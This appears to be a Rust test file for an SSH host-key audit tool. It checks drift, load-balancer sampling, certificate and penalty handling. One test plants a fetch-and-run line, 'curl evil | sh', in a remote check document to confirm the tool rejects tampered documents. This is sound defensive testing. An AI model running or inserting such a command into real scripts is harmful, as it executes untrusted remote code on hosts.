//! The audit flow in memory ([`hostkeyctl::audit::Audit`] over the doubles):
//! a node serving another key is drift, one that does not answer is
//! incomplete, a load balancer sample that gets no answer keeps the verdict
//! from OK, the tags alone give the expected set, and `--via-ssm` sends only
//! a check document it trusts by its hash.

use std::sync::Arc;

use hostkeyctl::audit::{
    Audit, AuditError, AuditReport, AuditRequest, Conclusion, ExpectedSource, OnDiskCheck, Verdict,
};
use hostkeyctl::discovery::{LbSpec, TargetSpec};
use hostkeyctl::ids::Program;
use hostkeyctl::rollout::push_version;
use hostkeyctl::scan::ScanPolicy;
use hostkeyctl::scan::pacing::{Ledger, Paced};
use hostkeyctl::ssm_document::{CHECK_NAME, Kind, content};
use hostkeyctl::testing::{Hooked, MemDispatcher, MemFleet, MemoryStore, Op};

use super::{ALGS, current, options, secret, world};

pub(super) fn request(lb: Option<LbSpec>, on_disk: bool) -> AuditRequest {
    AuditRequest {
        expected: ExpectedSource::Secret {
            secret: secret(),
            selector: None,
        },
        targets: vec!["tag:Role=login".parse::<TargetSpec>().unwrap()],
        endpoints: vec![],
        port: 22,
        lb,
        samples: 12,
        backends: None,
        certificates: None,
        on_disk: on_disk.then(|| OnDiskCheck {
            document: CHECK_NAME.to_owned(),
            node_command: Program::parse("hostkeyctl").unwrap(),
        }),
        now: hostkeyctl::certificate::now_unix(),
        client: hostkeyctl::scan::warnings::ClientVersion::NEWEST,
        accepted: vec![],
    }
}

pub(super) async fn run(
    store: &impl hostkeyctl::store::SecretStore,
    fleet: &Arc<MemFleet>,
    dispatcher: &MemDispatcher<'_, MemoryStore>,
    req: &AuditRequest,
) -> Result<AuditReport, AuditError> {
    let audit = Audit {
        store: Some(store),
        fleet: Some(fleet.as_ref()),
        dispatcher: Some(dispatcher),
        // Paced as the command is (scan::pacing), by a ledger of its own.
        prober: Arc::new(Paced::new(fleet.clone(), Arc::new(Ledger::in_memory()))),
        policy: ScanPolicy::default(),
    };
    audit.run(req).await
}

fn verdicts(report: &AuditReport, node: usize) -> Vec<Verdict> {
    report.nodes[node].findings.iter().map(|f| f.status).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_node_serving_another_key_is_drift_and_a_stopped_one_incomplete() {
    let (store, fleet, _) = world(3).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let clean = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
    assert_eq!(clean.conclusion, Conclusion::Consistent, "{clean:?}");

    // A fleet where the third node never got the set.
    let fleet3 = Arc::new(MemFleet::new(3, &ALGS).unwrap());
    let dispatcher3 = MemDispatcher::new(&fleet3, &store);
    let set = current(&store).await;
    let two = &fleet3.instances()[..2];
    assert!(
        push_version(&dispatcher3, &set, None, two, &options(0), &|_, _| {})
            .await
            .unwrap()
            .all_ok()
    );
    let drift = run(&store, &fleet3, &dispatcher3, &request(None, false)).await.unwrap();
    assert_eq!(drift.conclusion, Conclusion::Drift);
    assert!(verdicts(&drift, 2).contains(&Verdict::Mismatch), "{:?}", drift.nodes[2]);
    assert!(verdicts(&drift, 0).iter().all(|v| *v == Verdict::Ok));

    // A node whose sshd does not answer: incomplete, never OK or drift.
    fleet.nodes[1].stop();
    let stopped = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
    assert_eq!(stopped.conclusion, Conclusion::Incomplete);
    assert!(verdicts(&stopped, 1).iter().all(|v| *v == Verdict::Unreachable));
}

/// Through the load balancer (found by name: its DNS name, and its three
/// targets as the backend count), a sample that gets no answer might have
/// hit a bad backend: the verdict is at best incomplete.
#[tokio::test(flavor = "multi_thread")]
async fn an_unanswered_load_balancer_sample_keeps_the_audit_from_ok() {
    let (store, fleet, _) = world(3).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let lb = Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned()));
    let clean = run(&store, &fleet, &dispatcher, &request(lb.clone(), false))
        .await
        .unwrap();
    assert_eq!(clean.conclusion, Conclusion::Consistent, "{:?}", clean.lb);
    let through = clean.lb.as_ref().unwrap();
    assert_eq!(through.backends, Some(3));
    assert!(!through.backends_assumed);
    // One key per type of the set (all three backends serve it); the
    // other types asked for are served by none.
    assert!(
        through
            .types
            .iter()
            .all(|t| t.status == Verdict::Ok && t.seen.len() <= 1)
            && through.types.iter().filter(|t| t.seen.len() == 1).count() == super::ALGS.len()
    );

    fleet.lb_drops_every.store(5, std::sync::atomic::Ordering::SeqCst);
    let dropped = run(&store, &fleet, &dispatcher, &request(lb, false)).await.unwrap();
    assert_eq!(dropped.conclusion, Conclusion::Incomplete, "{:?}", dropped.lb);
    let types = &dropped.lb.as_ref().unwrap().types;
    assert!(
        types
            .iter()
            .any(|t| t.status == Verdict::Unreachable && !t.failed.is_empty()),
        "{types:?}"
    );
    // The nodes themselves are fine: only the samples are in doubt.
    assert!(
        dropped
            .nodes
            .iter()
            .all(|n| n.findings.iter().all(|f| f.status == Verdict::Ok))
    );
}

/// The expected set comes from the tags (DescribeSecret), never from the
/// value, unless a version is named.
#[tokio::test(flavor = "multi_thread")]
async fn the_tags_alone_give_the_expected_set() {
    let (store, fleet, _) = world(2).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let counting = Hooked::counting(&store);
    let report = run(&counting, &fleet, &dispatcher, &request(None, false))
        .await
        .unwrap();
    assert_eq!(report.conclusion, Conclusion::Consistent);
    assert!(
        report.expected_source.starts_with("tags of"),
        "{}",
        report.expected_source
    );
    assert_eq!(counting.log(), [Op::Describe], "the audit read more than the tags");
}

/// `--via-ssm` trusts the check document by its hash: a changed one is
/// refused before anything is sent; this binary's own checks every node.
#[tokio::test(flavor = "multi_thread")]
async fn via_ssm_sends_only_a_check_document_it_trusts() {
    let (store, fleet, _) = world(2).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let ours = content(Kind::Check, &Program::parse("hostkeyctl").unwrap());
    dispatcher.deploy(CHECK_NAME, &ours.replacen("set -eu", "set -eu\ncurl evil | sh", 1));
    let refused = run(&store, &fleet, &dispatcher, &request(None, true)).await;
    assert!(matches!(&refused, Err(AuditError::Document(_))), "{refused:?}");
    assert!(dispatcher.sent.lock().unwrap().is_empty(), "a command was sent");

    dispatcher.deploy(CHECK_NAME, &ours);
    let report = run(&store, &fleet, &dispatcher, &request(None, true)).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Consistent);
    assert_eq!(report.on_disk.len(), 2);
    assert!(report.on_disk.values().all(|d| d.result() == "match"));
    let document = report.on_disk_document.unwrap();
    assert_eq!(
        (document.name.as_str(), document.version.as_deref()),
        (CHECK_NAME, Some("2"))
    );
}

/// The expected set from a known_hosts file (one key per type) or from
/// `--expect` fingerprints, matched by value: no secret is read at all.
#[tokio::test(flavor = "multi_thread")]
async fn a_known_hosts_file_or_fingerprints_need_no_secret() {
    let (store, fleet, _) = world(2).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let set = current(&store).await;
    let lines: String = set
        .document
        .keys
        .keys()
        .map(|k| format!("login.test {}\n", k.public_line()))
        .collect();
    let (expected, source) =
        hostkeyctl::audit::expected_from_known_hosts_text(&lines, std::path::Path::new("known_hosts")).unwrap();
    assert_eq!(source, "known_hosts file known_hosts");
    let untyped = hostkeyctl::audit::Expected {
        by_type: Default::default(),
        untyped: set.document.keys.keys().map(|k| k.fingerprint().clone()).collect(),
    };
    let counting = Hooked::counting(&store);
    for expected in [expected, untyped] {
        let mut req = request(None, false);
        req.expected = ExpectedSource::Given {
            expected,
            source: "test".to_owned(),
        };
        let report = run(&counting, &fleet, &dispatcher, &req).await.unwrap();
        assert_eq!(report.conclusion, Conclusion::Consistent, "{:?}", report.nodes);
    }
    assert!(counting.log().is_empty(), "the secret was read: {:?}", counting.log());
    // Two keys of one type in the file: refused, naming both.
    let mut twice = lines.clone();
    let other = hostkeyctl::keyset::HostKey::generate(hostkeyctl::keyset::KeyAlgorithm::Ed25519, 0).unwrap();
    twice.push_str(&format!("login.test {}\n", other.public_line()));
    let refused = hostkeyctl::audit::expected_from_known_hosts_text(&twice, std::path::Path::new("kh")).unwrap_err();
    assert!(refused.contains("two different ssh-ed25519 keys"), "{refused}");
}

/// A node SSM cannot run the check on has no report: incomplete, never drift, and its entry says why.
#[tokio::test(flavor = "multi_thread")]
async fn via_ssm_counts_a_node_without_a_report_as_incomplete_not_drift() {
    let (store, fleet, _) = world(3).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    dispatcher.deploy(
        CHECK_NAME,
        &content(Kind::Check, &Program::parse("hostkeyctl").unwrap()),
    );
    fleet.nodes[2].faults.lock().unwrap().dispatch_fails = Some("agent: cannot start the plugin".to_owned());
    let report = run(&store, &fleet, &dispatcher, &request(None, true)).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Incomplete);
    let failing = &fleet.nodes[2].instance.instance_id;
    match &report.on_disk[failing] {
        hostkeyctl::audit::OnDisk::Unknown { error, .. } => {
            assert!(error.contains("cannot start the plugin"), "{error}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(report.on_disk.values().filter(|d| d.result() == "match").count(), 2);
}

/// Certificates are judged by the CA's key, never its name: the trusted
/// CA's are OK, the same certificates against another CA's fingerprint are
/// WRONG_CA, a name they do not list PRINCIPAL_MISSING, a node serving the
/// key alone CERT_MISSING (all drift); inside the warning window EXPIRING,
/// which is not.
#[tokio::test(flavor = "multi_thread")]
async fn certificates_are_judged_by_the_cas_fingerprint() {
    use hostkeyctl::certificate::{CertPolicy, CertVerdict, Principal};
    use hostkeyctl::keyset::{HostKey, KeyAlgorithm};
    let (store, fleet, original) = world(2).await;
    let ca = hostkeyctl::certificate::CaKey::from(HostKey::generate(KeyAlgorithm::Ed25519, 0).unwrap());
    let signed = super::sign_current_with(&store, &ca, &["login.test"], 86_400).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let all = fleet.instances();
    assert!(
        push_version(&dispatcher, &signed, None, &all, &options(0), &|_, _| {})
            .await
            .unwrap()
            .all_ok()
    );
    let judge = |trusted: &hostkeyctl::fingerprint::Fingerprint, name: &str, warn_days: u64| {
        let mut req = request(None, false);
        req.certificates = Some(CertPolicy {
            ca_fingerprints: vec![trusted.clone()],
            principals: vec![Principal::parse(name).unwrap()],
            warn_days,
        });
        req
    };
    let certs = |report: &AuditReport, node: usize| -> Vec<CertVerdict> {
        report.nodes[node]
            .findings
            .iter()
            .filter_map(|f| f.certificate.as_ref().map(|c| c.status))
            .collect()
    };
    let only = |report: &AuditReport, verdict: CertVerdict| {
        (0..2).all(|n| certs(report, n).len() == ALGS.len() && certs(report, n).iter().all(|v| *v == verdict))
    };
    let ok = run(&store, &fleet, &dispatcher, &judge(&ca.fingerprint(), "login.test", 0))
        .await
        .unwrap();
    assert_eq!(ok.conclusion, Conclusion::Consistent, "{:?}", ok.nodes);
    assert!(only(&ok, CertVerdict::Ok), "{:?}", ok.nodes);

    let impostor = HostKey::generate(KeyAlgorithm::Ed25519, 0).unwrap();
    let wrong = run(
        &store,
        &fleet,
        &dispatcher,
        &judge(impostor.fingerprint(), "login.test", 0),
    )
    .await
    .unwrap();
    assert_eq!(wrong.conclusion, Conclusion::Drift);
    assert!(only(&wrong, CertVerdict::WrongCa), "{:?}", wrong.nodes);

    let unnamed = run(&store, &fleet, &dispatcher, &judge(&ca.fingerprint(), "other.test", 0))
        .await
        .unwrap();
    assert_eq!(unnamed.conclusion, Conclusion::Drift);
    assert!(only(&unnamed, CertVerdict::PrincipalMissing), "{:?}", unnamed.nodes);

    let soon = run(&store, &fleet, &dispatcher, &judge(&ca.fingerprint(), "login.test", 2))
        .await
        .unwrap();
    assert_eq!(soon.conclusion, Conclusion::Consistent);
    assert!(only(&soon, CertVerdict::Expiring), "{:?}", soon.nodes);

    // The second node goes back to the same keys without certificates.
    let plain = hostkeyctl::store::SecretStore::get(
        &store,
        &secret(),
        &hostkeyctl::store::VersionSelector::VersionId(original),
    )
    .await
    .unwrap();
    assert!(
        push_version(&dispatcher, &plain, None, &all[1..], &options(0), &|_, _| {})
            .await
            .unwrap()
            .all_ok()
    );
    let missing = run(&store, &fleet, &dispatcher, &judge(&ca.fingerprint(), "login.test", 0))
        .await
        .unwrap();
    assert_eq!(missing.conclusion, Conclusion::Drift);
    assert!(
        certs(&missing, 0).iter().all(|v| *v == CertVerdict::Ok),
        "{:?}",
        missing.nodes[0]
    );
    assert!(
        !certs(&missing, 1).is_empty() && certs(&missing, 1).iter().all(|v| *v == CertVerdict::CertMissing),
        "{:?}",
        missing.nodes[1]
    );
}

/// The table a human reads fits a 100-column terminal (`COLUMNS=100`):
/// three nodes and the load balancer, every key a mismatch, the served
/// fingerprint shown where it differs. Unfitted, the same report is wider.
#[tokio::test(flavor = "multi_thread")]
async fn the_audit_table_fits_100_columns() {
    let (store, _, _) = world(0).await;
    // Nodes that never got the set: every key mismatches.
    let fleet = Arc::new(MemFleet::new(3, &ALGS).unwrap());
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let lb = Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned()));
    let report = run(&store, &fleet, &dispatcher, &request(lb, false)).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Drift);
    assert!((0..3).all(|n| verdicts(&report, n).iter().all(|v| *v == Verdict::Mismatch)));
    let text = report.table(Some(100));
    assert!(text.contains("MISMATCH") && text.contains("load balancer"), "{text}");
    for line in text.lines() {
        assert!(
            line.chars().count() <= 100,
            "{} columns: {line}\n{text}",
            line.chars().count()
        );
    }
    let served = fleet.nodes[0].served().unwrap();
    for fp in served.values() {
        assert!(text.contains(&fp.to_string()[..30]), "{fp} not shown:\n{text}");
    }
    let unfitted = report.table(None);
    assert!(
        unfitted.lines().any(|l| l.chars().count() > 100),
        "the report is too narrow to test the fit:\n{unfitted}"
    );
}

/// sshd's first KEXINIT lists the types it holds: the audit asks each
/// node for those only (three connections for three keys, where it asked
/// for all five types before), a stopped node once, and samples through
/// the load balancer go to held types only. The report counts what each
/// node saw.
#[tokio::test(flavor = "multi_thread")]
async fn each_node_is_asked_only_for_the_types_its_kexinit_lists() {
    let (store, _, _) = world(0).await;
    let fleet = Arc::new(MemFleet::new(3, &hostkeyctl::keyset::KeyAlgorithm::ALL).unwrap());
    let dispatcher = MemDispatcher::new(&fleet, &store);
    fleet.nodes[2].stop();
    let report = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
    let seen: Vec<usize> = fleet.nodes.iter().map(|n| n.connections()).collect();
    assert_eq!(seen, [3, 3, 0], "connections each node saw");
    let counted: Vec<(usize, usize)> = report
        .nodes
        .iter()
        .map(|n| (n.usage.connections, n.usage.retries))
        .collect();
    assert_eq!(counted, [(3, 0), (3, 0), (0, 0)], "as the report counts them");
    // What was not asked is still reported: the types it does not hold
    // are not served, and the stopped node is unreachable for every type.
    assert!(
        verdicts(&report, 0).contains(&Verdict::Mismatch),
        "{:?}",
        report.nodes[0]
    );
    assert_eq!(verdicts(&report, 2), [Verdict::Unreachable]);

    let before: usize = fleet.nodes.iter().map(|n| n.connections()).sum();
    let mut req = request(
        Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned())),
        false,
    );
    req.samples = 6;
    req.targets.clear();
    req.endpoints.clear();
    let through = run(&store, &fleet, &dispatcher, &req).await.unwrap();
    let lb = through.lb.unwrap();
    let after: usize = fleet.nodes.iter().map(|n| n.connections()).sum();
    // `--lb lb:NAME` audits the backends directly too (issue 27).
    let direct: usize = through.nodes.iter().map(|n| n.usage.connections).sum();
    assert_eq!(through.nodes.len(), 3, "the backends were not audited directly");
    assert_eq!(
        after - before,
        lb.usage.connections + direct,
        "the samples' connections"
    );
    // Six samples per held type, a third of them to the stopped backend.
    assert_eq!(lb.usage.connections, 3 * 6 * 2 / 3);
    assert_eq!(
        lb.types.iter().filter(|t| !t.seen.is_empty()).count(),
        3,
        "{:?}",
        lb.types
    );
}

/// A node whose sshd refuses the auditor (PerSourcePenalties) is PENALIZED,
/// never unreachable or a mismatch, asked once, and the finding names the
/// remedies; through the load balancer, a penalized backend's samples make
/// the type PENALIZED. Either way the audit is incomplete (exit 3).
#[tokio::test(flavor = "multi_thread")]
async fn a_penalized_node_is_its_own_finding_and_is_asked_once() {
    let (store, fleet, _) = world(3).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    fleet.nodes[1].faults.lock().unwrap().penalized = true;
    let report = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Incomplete);
    assert_eq!(verdicts(&report, 1), [Verdict::Penalized]);
    let detail = report.nodes[1].findings[0].detail.clone().unwrap();
    assert!(
        detail.contains("Not allowed at this time") && detail.contains("PerSourcePenaltyExemptList"),
        "{detail}"
    );
    assert!(verdicts(&report, 0).iter().all(|v| *v == Verdict::Ok));
    let asked = fleet.nodes[1].connections();
    let lb = Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned()));
    let through = run(&store, &fleet, &dispatcher, &request(lb, false)).await.unwrap();
    assert_eq!(through.conclusion, Conclusion::Incomplete);
    let types = &through.lb.as_ref().unwrap().types;
    assert!(types.iter().any(|t| t.status == Verdict::Penalized), "{types:?}");
    assert!(types.iter().all(|t| t.status != Verdict::Mismatch), "{types:?}");
    assert!(
        fleet.nodes[1].connections() > asked,
        "the samples reached the penalized backend"
    );
}

/// Issue 25's worst case: behind a load balancer that does not preserve
/// the client's address, every sample reaches its backend from the
/// balancer's address, and OpenSSH 10.0 refuses an address past 15
/// connections owed: 27 samples of two types are 18 per backend, and
/// everyone behind the balancer would be refused. Paced by the backends (a
/// burst of 10 each, then 3 a second), none is refused, and the wait is
/// at least what the budget says: 24 connections at 3 a second. Unpaced
/// (the same nodes, banner of a release that does not penalize), they are
/// refused. (Real time: tokio's paused clock would rebuild every SDK crate
/// for the tests.)
#[tokio::test(flavor = "multi_thread")]
async fn samples_through_a_balancer_to_penalizing_nodes_are_paced_by_the_backends() {
    let (store, _, _) = world(0).await;
    let lb = Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned()));
    let mut req = request(lb, false);
    req.targets.clear();
    // 27 samples of 2 types: 18 per backend, past the 15 s threshold.
    req.samples = 27;
    let fleet = Arc::new(MemFleet::new(3, &ALGS).unwrap());
    for n in &fleet.nodes {
        n.penalize();
    }
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let start = tokio::time::Instant::now();
    let report = run(&store, &fleet, &dispatcher, &req).await.unwrap();
    let took = start.elapsed();
    let refused: Vec<usize> = fleet.nodes.iter().map(|n| n.refused()).collect();
    assert_eq!(refused, [0, 0, 0], "connections refused for a penalty");
    let through = report.lb.unwrap();
    assert_eq!(through.usage.connections, 54);
    assert!(
        through.types.iter().all(|t| t.status != Verdict::Penalized),
        "{:?}",
        through.types
    );
    assert!(took >= std::time::Duration::from_secs(7), "paced for only {took:?}");

    let unpaced = Arc::new(MemFleet::new(3, &ALGS).unwrap());
    for n in &unpaced.nodes {
        n.penalize();
        *n.banner.lock().unwrap() = hostkeyctl::testing::MEM_BANNER.to_owned();
    }
    let dispatcher = MemDispatcher::new(&unpaced, &store);
    let report = run(&store, &unpaced, &dispatcher, &req).await.unwrap();
    assert!(
        unpaced.nodes.iter().all(|n| n.refused() > 0),
        "the model did not penalize"
    );
    let types = report.lb.unwrap().types;
    assert!(
        types
            .iter()
            .any(|t| t.failed.keys().any(|k| k.contains("Not allowed at this time"))),
        "{types:?}"
    );
}

/// Regression (issue 27): the set's certificate, and another plain key in
/// front of the set's, which every client that trusts keys gets. The
/// certificate's verdict hid it (OK, exit 0); the plain key is asked for
/// too now: MISMATCH, with the certificate still judged OK.
#[tokio::test(flavor = "multi_thread")]
async fn a_certificate_verdict_never_hides_the_plain_key() {
    use hostkeyctl::certificate::{CertPolicy, CertVerdict, Principal};
    use hostkeyctl::keyset::{HostKey, KeyAlgorithm};
    let (store, fleet, _) = world(2).await;
    let ca = hostkeyctl::certificate::CaKey::from(HostKey::generate(KeyAlgorithm::Ed25519, 0).unwrap());
    let signed = super::sign_current_with(&store, &ca, &["login.test"], 86_400).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    assert!(super::push_all(&dispatcher, &fleet, &signed).await.all_ok());
    let mut policy = request(None, false);
    policy.certificates = Some(CertPolicy {
        ca_fingerprints: vec![ca.fingerprint().clone()],
        principals: vec![Principal::parse("login.test").unwrap()],
        warn_days: 0,
    });
    let stray = HostKey::generate(KeyAlgorithm::Ed25519, 0).unwrap();
    fleet.nodes[0].faults.lock().unwrap().stray_plain_key = Some((
        hostkeyctl::scan::ScanAlgorithm::for_managed(KeyAlgorithm::Ed25519),
        stray.public_key().clone(),
    ));
    let hidden = run(&store, &fleet, &dispatcher, &policy).await.unwrap();
    assert_eq!(hidden.conclusion, Conclusion::Drift, "{:?}", hidden.nodes);
    let ed25519 = hidden.nodes[0]
        .findings
        .iter()
        .find(|f| f.key_type == "ssh-ed25519")
        .unwrap();
    assert_eq!(ed25519.status, Verdict::Mismatch, "{ed25519:?}");
    assert_eq!(ed25519.served.as_ref(), Some(stray.fingerprint()), "{ed25519:?}");
    assert!(
        ed25519.detail.as_deref().unwrap_or("").contains("plain key"),
        "{ed25519:?}"
    );
    assert_eq!(ed25519.certificate.as_ref().map(|c| c.status), Some(CertVerdict::Ok));
    assert_eq!(
        hidden.nodes[1].usage.connections,
        2 * ALGS.len(),
        "certificates and plain keys"
    );
}

/// Issue 27: a balancer that pins each client to one backend shows only
/// that one, however many samples, so the balancer audited alone (`--lb
/// HOST:PORT`, no backend audited directly) is at best incomplete (exit
/// 3), reporting the distinct keys it saw; it said OK before. `--lb
/// lb:NAME` audits its backends directly too, and may be consistent.
#[tokio::test(flavor = "multi_thread")]
async fn a_load_balancer_audited_alone_is_at_best_incomplete() {
    let (store, fleet, _) = world(3).await;
    let dispatcher = MemDispatcher::new(&fleet, &store);
    let address = hostkeyctl::hostport::HostPort::new(hostkeyctl::testing::MEM_LB_ADDRESS.to_owned(), 22);
    let mut alone = request(Some(LbSpec::Address(address)), false);
    alone.targets.clear();
    let report = run(&store, &fleet, &dispatcher, &alone).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Incomplete, "{:?}", report.lb);
    let lb = report.lb.unwrap();
    assert!(lb.alone && report.nodes.is_empty());
    assert_eq!(lb.distinct, 1, "every backend serves the set");
    assert!(lb.types.iter().all(|t| t.status == Verdict::Ok), "{:?}", lb.types);

    let mut named = request(
        Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned())),
        false,
    );
    named.targets.clear();
    let report = run(&store, &fleet, &dispatcher, &named).await.unwrap();
    assert_eq!(report.conclusion, Conclusion::Consistent, "{:?}", report.nodes);
    assert_eq!(report.nodes.len(), 3);
    assert!(!report.lb.unwrap().alone);
}
